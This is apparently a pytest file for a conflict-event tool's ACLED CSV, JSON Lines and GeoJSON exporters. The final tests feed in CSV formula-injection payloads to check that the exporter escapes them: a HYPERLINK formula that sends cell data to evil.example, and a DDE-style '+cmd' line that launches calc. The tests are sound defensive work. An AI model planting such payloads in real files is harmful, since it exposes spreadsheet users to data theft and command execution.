"""Tests of the exporters: ACLED CSV columns and values, JSON Lines shape, GeoJSON validity."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest

from conflictlens.export import (
    ACLED_COLUMNS,
    CSV_COLUMNS,
    FORMATS,
    acled_row,
    document_record,
    feature_collection,
    group_by_document,
    write,
    write_acled_csv,
    write_geojson,
    write_jsonl,
)
from conflictlens.export.acled import acled_date, acled_regions, country_of
from conflictlens.model import Actor, Document, EventDate, Fatalities, Place, Report, Span
from conflictlens.store import open_store

NOW = dt.datetime(2024, 5, 1, 12, 0, tzinfo=dt.UTC)

TEXT = (
    "Soldiers of the Malian army and Wagner Group fighters killed at least 24 civilians "
    "in a village near Gao on 3 December 2020, residents said. "
    "In 2019, a similar attack had taken place in the same area."
)

ACLED_31 = [
    "event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type",
    "sub_event_type", "actor1", "assoc_actor_1", "inter1", "actor2", "assoc_actor_2", "inter2",
    "interaction", "civilian_targeting", "iso", "region", "country", "admin1", "admin2", "admin3",
    "location", "latitude", "longitude", "geo_precision", "source", "source_scale", "notes",
    "fatalities", "tags", "timestamp",
]  # fmt: skip


def _span(doc: Document, needle: str) -> Span:
    start = doc.text.index(needle)
    return Span(doc.id, start, start + len(needle), needle)


@pytest.fixture
def doc() -> Document:
    return Document(
        id="gao-2020-12-03",
        text=TEXT,
        title="Civilians killed near Gao",
        url="https://example.org/news/gao",
        published=dt.date(2020, 12, 4),
        source="Example News",
    )


@pytest.fixture
def reports(doc: Document) -> list[Report]:
    gao = Place(
        "Gao",
        country="Mali",
        iso2="ML",
        admin1="Gao",
        admin2="Gao",
        admin3="Gao",
        latitude=16.2666,
        longitude=-0.044,
        geo_precision=2,
        spans=(_span(doc, "near Gao"),),
    )
    event = Report(
        doc_id=doc.id,
        event_type="Violence against civilians",
        sub_event_type="Attack",
        actor1=Actor(
            "Military Forces of Mali (2021-)", "state_forces", 1, "Mali", (_span(doc, "Malian army"),)
        ),
        assoc_actor_1=(Actor("Wagner Group", "private_military_company", 8, "Russia"),),
        actor2=Actor("Civilians (Mali)", "civilians", 7, "Mali", (_span(doc, "civilians"),)),
        fatalities=Fatalities(24, 24, None, 24, "at least", (_span(doc, "at least 24"),)),
        date=EventDate(dt.date(2020, 12, 3), 1, None, (_span(doc, "3 December 2020"),)),
        place=gao,
        evidence=(
            _span(doc, "killed at least 24 civilians"),
            _span(doc, "near Gao on 3 December 2020"),
        ),
        tags=("local source",),
        notes="On 3 December 2020, Malian soldiers and Wagner Group fighters killed 24 civilians near Gao.",
        claims=[{"field": "fatalities", "value": 24, "source": "residents"}],
        index=0,
    )
    background = Report(
        doc_id=doc.id,
        event_type="Violence against civilians",
        sub_event_type="Attack",
        actor2=Actor("Civilians (Mali)", "civilians", 7, "Mali"),
        date=EventDate(dt.date(2019, 1, 1), 3),
        place=gao,
        evidence=(_span(doc, "In 2019, a similar attack had taken place in the same area."),),
        background=True,
        index=1,
    )
    return [event, background]


def _read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_columns_are_acleds_31_then_ours() -> None:
    assert list(ACLED_COLUMNS) == ACLED_31
    assert list(CSV_COLUMNS) == [*ACLED_31, "source_id", "evidence"]
    assert len(CSV_COLUMNS) == 33
    assert FORMATS == ("acled", "jsonl", "geojson")


def test_acled_row_values(doc: Document, reports: list[Report]) -> None:
    row = acled_row(reports[0], doc, now=NOW)
    assert list(row) == list(CSV_COLUMNS)
    assert row["event_date"] == "03 December 2020"
    assert row["year"] == 2020
    assert row["time_precision"] == 1
    assert row["disorder_type"] == "Political violence"
    assert row["actor1"] == "Military Forces of Mali (2021-)"
    assert row["assoc_actor_1"] == "Wagner Group"
    assert row["inter1"] == 1
    assert row["actor2"] == "Civilians (Mali)"
    assert row["inter2"] == 7
    assert row["interaction"] == 17
    assert row["civilian_targeting"] == "Civilian targeting"
    assert row["iso"] == 466
    assert row["region"] == "Western Africa"
    assert row["country"] == "Mali"
    assert (row["admin1"], row["admin2"], row["admin3"], row["location"]) == ("Gao", "Gao", "Gao", "Gao")
    assert (row["latitude"], row["longitude"], row["geo_precision"]) == (16.2666, -0.044, 2)
    assert row["source"] == "Example News"
    assert row["source_scale"] == ""
    assert row["fatalities"] == 24
    assert row["tags"] == "local source"
    assert row["timestamp"] == int(NOW.timestamp())
    assert str(row["event_id_cnty"]).startswith("MLI-")
    assert len(str(row["event_id_cnty"])) == len("MLI-") + 8
    assert row["source_id"] == doc.id
    assert row["evidence"] == "killed at least 24 civilians … near Gao on 3 December 2020"


def test_acled_row_without_actor2_place_or_date(doc: Document) -> None:
    bare = Report(
        doc_id=doc.id,
        event_type="Strategic developments",
        sub_event_type="Headquarters or base established",
        actor1=Actor("JNIM: Group for Support of Islam and Muslims", "islamist_militant_group", 2),
    )
    row = acled_row(bare, Document(id="d", text="x" * 30), now=0)
    assert row["inter2"] == "" and row["actor2"] == ""
    assert row["interaction"] == 20
    assert row["disorder_type"] == "Strategic developments"
    assert row["civilian_targeting"] == ""
    assert row["event_date"] == "" and row["iso"] == "" and row["region"] == ""
    assert str(row["event_id_cnty"]).startswith("XXX-")
    assert row["source"] == "d"


def test_country_lookup_by_name_and_region_table() -> None:
    drc = country_of(Place("Goma", country="Democratic Republic of Congo"))
    assert drc is not None and (drc.iso2, drc.iso3, drc.numeric) == ("CD", "COD", 180)
    afg = country_of(Place("Kabul", iso2="af"))
    assert afg is not None and afg.numeric == 4 and afg.name == "Afghanistan"
    assert country_of(Place("Pristina", iso2="XK")) is not None
    assert country_of(Place("Atlantis", country="Atlantis")) is None
    regions = acled_regions()
    assert regions["ML"] == regions["BF"] == "Western Africa"
    assert regions["SY"] == "Middle East"
    assert regions["MX"] == "Central America"
    assert len(regions) >= 249


def test_acled_date_ignores_locale() -> None:
    assert acled_date(dt.date(2021, 1, 9)) == "09 January 2021"


def test_acled_csv_header_rows_and_background(doc: Document, reports: list[Report]) -> None:
    items = [(r, doc) for r in reports]
    out = io.StringIO()
    assert write_acled_csv(items, out, now=NOW) == 1
    assert out.getvalue().splitlines()[0].split(",") == list(CSV_COLUMNS)
    rows = _read_csv(out.getvalue())
    assert len(rows) == 1
    assert rows[0]["interaction"] == "17"
    assert rows[0]["iso"] == "466"
    assert rows[0]["event_date"] == "03 December 2020"
    assert "background" not in rows[0]["tags"]

    out = io.StringIO()
    assert write_acled_csv(items, out, include_background=True, now=NOW) == 2
    rows = _read_csv(out.getvalue())
    assert rows[1]["tags"] == "background"
    assert rows[1]["event_date"] == "01 January 2019"
    assert rows[1]["time_precision"] == "3"
    assert rows[1]["interaction"] == "70"


def test_csv_quotes_commas_in_notes(doc: Document, reports: list[Report]) -> None:
    out = io.StringIO()
    write_acled_csv([(reports[0], doc)], out, now=NOW)
    assert _read_csv(out.getvalue())[0]["notes"] == reports[0].notes


def test_jsonl_line_shape(doc: Document, reports: list[Report]) -> None:
    record = document_record(doc, reports)
    assert set(record) == {"id", "title", "url", "published", "source", "events"}
    assert record["published"] == "2020-12-04"
    assert [e["background"] for e in record["events"]] == [False, True]
    assert all("claims" in e for e in record["events"])
    assert len(document_record(doc, reports, include_background=False)["events"]) == 1

    other = Document(id="née", text="Aucun événement signalé à Tombouctou aujourd'hui.", source="Le Monde")
    out = io.StringIO()
    assert write_jsonl([(doc, reports), (other, [])], out) == 2
    lines = out.getvalue().splitlines()
    assert len(lines) == 2
    assert "née" in lines[1]  # ensure_ascii=False
    first = json.loads(lines[0])
    assert first["id"] == doc.id
    assert Report.from_dict(first["events"][0]) == reports[0]
    assert json.loads(lines[1])["events"] == []


def test_group_by_document(doc: Document, reports: list[Report]) -> None:
    other = Document(id="other", text="y" * 30)
    pairs = [(reports[0], doc), (reports[1], doc), (Report("other", "Battles", "Armed clash"), other)]
    groups = list(group_by_document(pairs))
    assert [(d.id, len(rs)) for d, rs in groups] == [(doc.id, 2), ("other", 1)]


def test_geojson_is_valid_feature_collection(doc: Document, reports: list[Report]) -> None:
    unplaced = Report(doc.id, "Battles", "Armed clash", index=2)
    items = [(r, doc) for r in [*reports, unplaced]]
    fc = feature_collection(items, now=NOW)
    assert fc["type"] == "FeatureCollection"
    assert len(fc["features"]) == 1
    feature = fc["features"][0]
    assert feature["type"] == "Feature"
    assert feature["geometry"] == {"type": "Point", "coordinates": [-0.044, 16.2666]}
    props = feature["properties"]
    assert set(CSV_COLUMNS) <= set(props)
    assert props["interaction"] == 17 and props["report_id"] == reports[0].id

    out = io.StringIO()
    assert write_geojson(items, out, include_background=True, now=NOW) == 2
    parsed = json.loads(out.getvalue())
    assert parsed["type"] == "FeatureCollection"
    for f in parsed["features"]:
        lon, lat = f["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90


def test_export_from_a_store(tmp_path: Path, doc: Document, reports: list[Report]) -> None:
    with open_store(str(tmp_path / "events.db")) as store:
        store.ingest(doc, reports)
        path = tmp_path / "events.csv"
        with path.open("w", encoding="utf-8", newline="") as fh:
            assert write("acled", store.reports(), fh, now=NOW) == 1
        out = io.StringIO()
        assert write("jsonl", store.reports(include_background=True), out, include_background=True) == 1
        assert len(json.loads(out.getvalue())["events"]) == 2
        out = io.StringIO()
        assert write("geojson", store.reports(), out) == 1
    rows = _read_csv(path.read_text(encoding="utf-8"))
    assert rows[0]["actor1"] == "Military Forces of Mali (2021-)"
    with pytest.raises(ValueError, match="unknown export format"):
        write("xlsx", [], io.StringIO())


# -- spreadsheet formulas ----------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_csv_cells_that_look_like_formulas_are_escaped(doc: Document, reports: list[Report]) -> None:
    """A hostile page's text (its site name as ``source``, say) is not run by spreadsheets; numbers,
    negative ones included, are written as they are."""
    import dataclasses

    hostile = dataclasses.replace(doc, source=FORMULA)
    report = dataclasses.replace(
        reports[0],
        notes="+cmd|' /C calc'!A0",
        actor1=Actor("@SUM(1+1)", "rebel_group", 2, "Mali"),
        tags=("-2+3",),
        evidence=(Span(doc.id, 0, 5, "\tTAB"),),
    )
    out = io.StringIO()
    write_acled_csv([(report, hostile)], out, now=NOW)
    row = _read_csv(out.getvalue())[0]
    assert row["source"] == "'" + FORMULA
    assert row["notes"] == "'+cmd|' /C calc'!A0"
    assert row["actor1"] == "'@SUM(1+1)"
    assert row["tags"] == "'-2+3"
    assert row["evidence"] == "'\tTAB"
    assert row["longitude"] == "-0.044"  # a number, left alone
    assert row["latitude"] == "16.2666" and row["fatalities"] == "24" and row["inter1"] == "2"
    # the row itself (GeoJSON, JSON) keeps the text as it is
    assert acled_row(report, hostile, now=NOW)["source"] == FORMULA


def test_incident_csv_cells_that_look_like_formulas_are_escaped() -> None:
    from conflictlens.export import write_incidents_acled
    from conflictlens.resolve.model import Incident, IncidentSource

    source = IncidentSource("doc-1", "doc-1#0", FORMULA, None, None, "evil", True, {})
    incident = Incident(
        "INC-a",
        "ML",
        "Battles",
        "Armed clash",
        actor1="=1+1",
        place={"name": "@Gao", "latitude": -14.5, "longitude": -4.25, "geo_precision": 1},
        fatalities={"acled": 3},
        sources=(source,),
        notes="-notes",
    )
    out = io.StringIO()
    write_incidents_acled([incident], out, now=NOW)
    row = _read_csv(out.getvalue())[0]
    assert row["source"] == "'" + FORMULA
    assert row["actor1"] == "'=1+1"
    assert row["location"] == "'@Gao"
    assert row["notes"] == "'-notes"
    assert (row["latitude"], row["longitude"], row["fatalities"]) == ("-14.5", "-4.25", "3")
